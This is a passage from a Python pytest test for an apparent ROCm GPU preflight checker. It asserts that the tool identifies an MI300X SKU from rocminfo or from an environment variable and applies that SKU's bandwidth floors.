        f"transferbench={a2a}",
        "--source",
        f"rocminfo={rocminfo}",
    )
    assert (both["sku"], both["sku_from"]) == ("MI300X", f"named by {rocminfo}")
    assert "meets 32.9 GB/s" in layer(both, "hardware")["reason"]  # MI300X's a2a floor
    monkeypatch.setenv("PYTEST_ROCM_SKU", "mi300x")
    code, classed = preflight(capsys, "--source", f"transferbench={a2a}")
    assert (classed["sku"], classed["sku_from"]) == (
        "MI300X",
        "set by the runner class (PYTEST_ROCM_SKU)",
    )
    rocm_gate(["preflight", "--require", "none", "--source", f"transferbench={a2a}"])
    assert "SKU MI300X, set by the runner class (PYTEST_ROCM_SKU): MI300X's floors applied" in (
        capsys.readouterr().out
    )
